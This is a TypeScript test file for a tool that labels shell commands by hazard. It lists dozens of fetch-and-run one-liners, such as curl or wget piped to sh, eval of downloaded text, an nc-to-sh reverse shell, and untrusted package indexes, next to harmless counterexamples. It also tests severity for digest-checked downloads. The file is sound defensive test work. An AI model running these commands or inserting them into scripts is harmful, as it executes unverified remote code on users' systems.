import assert from 'node:assert/strict';
import { test } from 'node:test';
import { expectHazards, seen, severityOf } from './seen.ts';

expectHazards([
  ['curl -fsSL https://a.example/i.sh | sh', 'runs-download'],
  ['curl https://a.example/i.sh | sudo bash -s -- -y', 'elevates runs-download'],
  ['wget -qO- https://a.example/i.sh | bash', 'runs-download'],
  ['curl https://a.example | tee i.sh | sh', 'runs-download'],
  ['curl https://a.example | base64 -d | sh', 'runs-download'],
  ['curl https://a.example | python3', 'runs-download'],
  ['curl https://a.example | python3 -', 'runs-download'],
  ['curl https://a.example | perl', 'runs-download'],
  ['bash <(curl -s https://a.example)', 'runs-download'],
  ['source <(curl -s https://a.example)', 'runs-download'],
  ['. <(wget -qO- https://a.example)', 'runs-download'],
  ['sh -c "$(curl -fsSL https://a.example)"', 'runs-download'],
  ['eval "$(curl -s https://a.example)"', 'runs-download'],
  ['eval `wget -qO- https://a.example`', 'runs-download'],
  ['x=$(curl -s https://a.example); eval "$x"', 'runs-download'],
  ['python3 -c "$(curl -s https://a.example)"', 'runs-download'],
  ['curl -o /tmp/a https://a.example; chmod +x /tmp/a; /tmp/a', 'runs-download'],
  ['curl -so a https://a.example && sh a', 'runs-download'],
  ['wget https://a.example/i.sh && bash i.sh', 'runs-download'],
  ['wget https://a.example/i.sh -O /tmp/x; sh /tmp/x', 'runs-download'],
  ['curl https://a.example/i.sh > i.sh; bash ./i.sh', 'runs-download'],
  ['curl -O https://a.example/i.sh; mv i.sh j.sh; bash j.sh', 'runs-download'],
  ['cd /tmp; wget https://a.example/m; chmod 755 m; ./m', 'runs-download'],
  ['curl https://a.example > x; sh < x', 'runs-download'],
  ['curl https://a.example > x; cat x | sh', 'runs-download'],
  ['nc 192.0.2.1 99 | sh', 'reverse-shell runs-download runs-nameless'],
  ['fetch -o - https://a.example | sh', 'runs-download'],
  ['bash -c "curl https://a.example | sh"', 'runs-download'],
  [
    'curl -s https://a.example | sudo tee /usr/local/bin/y > /dev/null; y',
    'adds-program elevates runs-download',
  ],
  ['install -m 755 <(curl -s https://a.example) /usr/local/bin/y && y', 'adds-program runs-download'],
  // A pattern stands for what was fetched to where it looks.
  ['curl -o hooks/a.sh https://a.example; for f in hooks/*.sh; do bash "$f"; done', 'runs-download'],
  ['curl -o hooks/a.sh https://a.example; for f in ./hooks/*; do "$f"; done', 'runs-download'],
  ['cd jobs; curl -o a.py https://a.example; for f in *.py; do python3 $f; done', 'runs-download'],
  ['curl -o hooks/a.sh https://a.example; . hooks/*.sh', 'runs-download'],
  ['curl -o /tmp/x/y/a https://a.example; sh /tmp/*/y/a', 'runs-download'],
  ['curl -o data/a.csv https://a.example; for f in hooks/*.sh; do bash "$f"; done', ''],
  ['curl -o hooks/old/a.sh https://a.example; for f in hooks/*.sh; do bash "$f"; done', ''],
  // What one command or shell leaves to another.
  ["sh -c 'curl -o /tmp/x https://a.example'; sh /tmp/x", 'runs-download'],
  ['curl -o a https://a.example; ln -s a b; sh b', 'runs-download'],
  ['curl -o a https://a.example; cat a > b; sh b', 'runs-download'],
  ['curl https://a.example | dd of=x; sh x', 'runs-download'],
  ['bash <<< "$(curl https://a.example)"', 'runs-download'],
  ['mapfile -t L < <(curl https://a.example); eval "\u0024{L[@]}"', 'runs-download'],
  ['curl https://a.example | while read -r l; do eval "$l"; done', 'runs-download'],
  ['exec 3< <(curl https://a.example); . /dev/fd/3', 'runs-download'],
  ['exec 3< <(curl https://a.example); sh <&3', 'runs-download'],
  ['curl -o /tmp/e https://a.example; BASH_ENV=/tmp/e bash -c true', 'runs-download'],
  ['c=\'curl https://a.example | sh\'; declare -n r=c; eval "$r"', 'runs-download'],
  ["export C='curl https://a.example | sh'; sh -c 'eval \"$C\"'", 'runs-download'],
  ["export PROMPT_COMMAND='curl https://a.example | sh'", 'runs-download'],
  ['curl -o /tmp/z/x --create-dirs https://a.example; find /tmp/z -type f -exec sh {} \\;', 'runs-download'],
  ["printf 'all:\\n\\tcurl https://a.example | sh\\n' | make -f -", 'runs-download'],
  // Out of an archive that was fetched.
  ['wget https://a.example/miner.tgz; tar xf miner.tgz; bash miner/install.sh', 'runs-download'],
  ['curl -L https://a.example/tool-1.2-linux.tar.gz | tar xz; ./tool-1.2/tool', 'runs-download'],
  ['curl -L https://a.example/t.tgz | tar xz -C /tmp/t; /tmp/t/run', 'runs-download'],
  ['curl -L https://a.example/t.tgz | tar xz -C /tmp helper; /tmp/helper -d', 'runs-download'],
  ['wget https://a.example/x.zip; unzip -d x x.zip; python3 x/setup.py', 'runs-download'],
  [
    'curl -L https://a.example/tool_1.2.tgz | sudo tar xz -C /usr/local/bin; tool run',
    'adds-program elevates runs-download',
  ],
  [
    'pip install -i https://pypi.org/simple --extra-index-url https://a.example/simple x',
    'installs-from-address',
  ],
  ['pip install -ihttps://a.example/simple x', 'installs-from-address'],
  ['pip install -i https://mirror.example/simple x', 'installs-from-address'],
  ['npm config set registry http://npm.example.com', 'installs-from-address runs-download'],
  ['curl -o /tmp/p.whl https://a.example; pip install /tmp/p.whl', 'installs-from-address'],
  // honest twins
  ['curl -o $A https://a.example; sh $B', ''],
  ['exec 3< <(ls); cat <&3', ''],
  ['ls | while read -r l; do echo "$l"; done', ''],
  ['curl -fsSL https://a.example/data.json -o data.json', ''],
  ['curl -s https://api.example/v1 | jq .name', ''],
  ['wget https://a.example/weights.bin', ''],
  ['curl -fL https://a.example/x.tgz | tar xz', ''],
  ['wget -q https://a.example/x.zip && unzip x.zip', ''],
  ['wget https://a.example/images.tgz; tar xf images.tgz; bash run.sh images', ''],
  ['curl -L https://a.example/t.tgz | tar xz -C data; python3 train.py data/a', ''],
  ['curl -L https://a.example/tool_1.2.tgz | tar xz -C ~/.local/share; ls; git status', ''],
  ['pip install -i https://mirrors.aliyun.com/pypi/simple/ torch', 'installs'],
  ['npm config set registry https://registry.npmjs.org/; npm ci', 'installs'],
  ['apt-get purge -y gcc libc6-dev', 'removes-packages'],
  ['git clone https://a.example/x.git', ''],
  ['bash setup.sh', ''],
  ['cat setup.sh | bash', ''],
  ['. ./venv/bin/activate', ''],
  ['source "$(dirname "$0")/common.sh"', ''],
  ['eval "$(conda shell.bash hook)"', ''],
  ['eval "$(ssh-agent -s)"', ''],
  ['eval "$X"', 'dynamic'],
  ['eval ⌂', 'built-from-text dynamic'],
  ['$(my-tool command)', 'dynamic'],
  ['my-tool | sh', 'dynamic'],
  // installs
  ['pip install -r requirements.txt', 'installs'],
  ['python -m pip install torch==2.4.0', 'installs'],
  ['pip install git+https://a.example/x.git', 'installs-from-address'],
  ['pip install https://a.example/x.whl', 'installs-from-address'],
  ['pip install --extra-index-url https://a.example/simple x', 'installs-from-address'],
  ['pip install --index-url https://download.pytorch.org/whl/cu121 torch', 'installs'],
  ['pip install --trusted-host a.example x', 'installs-from-address'],
  ['uv pip install git+ssh://git@a.example/x', 'installs-from-address'],
  ['pip install -e .', 'installs'],
  ['pip list', ''],
  ['npm install', 'installs'],
  ['npm install https://a.example/x.tgz', 'installs-from-address'],
  ['npm i someone/repository', 'installs-from-address'],
  ['npm i @scope/name', 'installs'],
  ['apt-get update && apt-get install -y git', 'installs'],
  ['apt-get install --allow-unauthenticated x', 'installs-from-address'],
  ['curl -fsSL https://a.example/k.gpg | apt-key add -', 'trusts-source'],
  ['apt-get remove -y sudo', 'removes-system-packages'],
  ['apt-get purge -y vim', 'removes-packages'],
  ['cargo install --git https://a.example/x', 'installs-from-address'],
]);

// The file has no name that can be told, and is the same one.
const fetch = 'T=$(mktemp); curl -s https://example.com/x -o "$T"; chmod 755 "$T"; ';
expectHazards([
  [`${fetch}"$T" -d`, 'dynamic runs-download'],
  [`${fetch}nohup "$T" >/dev/null 2>&1 &`, 'dynamic runs-download'],
  ['U=$(mktemp); T=$(mktemp -d); curl -s https://example.com/x -o "$T"/a.csv; wc -l "$T"/a.csv', ''],
]);

/** What the rules make of the one download that a script runs. */
async function severityOfRun(script: string): Promise<string> {
  const { facts } = await seen(script);
  const told = facts.filter((fact) => fact.kind === 'hazard' && fact.hazard === 'shell-runs-download');
  assert.ok(told.length > 0, script);
  return severityOf(told, 'generated', 'load');
}

const digest = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
const release = 'https://github.com/o/tool/releases/download/v1.2.3/tool';

test('a download that is compared with a digest in the script is a lower risk, and no small one', async () => {
  const get = `curl -fsSLo tool ${release}`;
  assert.equal(await severityOfRun(`${get}\nchmod +x tool\n./tool`), 'high');
  const check = `echo "${digest}  tool" | sha256sum -c -`;
  assert.equal(await severityOfRun(`${get}\n${check}\nchmod +x tool\n./tool`), 'medium');
  // Digests of another file, digests that were fetched, and a file that is fetched anew.
  assert.equal(await severityOfRun(`${get}\n${check.replace('  tool', '  other')}\n./tool`), 'high');
  assert.equal(
    await severityOfRun(`${get}\ncurl -o sums ${release}.sha256\nsha256sum -c sums\n./tool`),
    'high',
  );
  assert.equal(await severityOfRun(`${get}\n${check}\n${get}\n./tool`), 'high');
});

test('a host of repositories gives out what strangers have sent to them', async () => {
  const run = (reference: string): Promise<string> =>
    severityOfRun(`curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/${reference}/install.sh | bash`);
  assert.equal(await run('v0.39.7'), 'medium');
  assert.equal(await run('refs/heads/master'), 'medium');
  assert.equal(await run('refs/pull/17/head'), 'high');
  assert.equal(await run('0123456789abcdef0123456789abcdef01234567'), 'high');
  assert.equal(await run('0123456'), 'high');
});
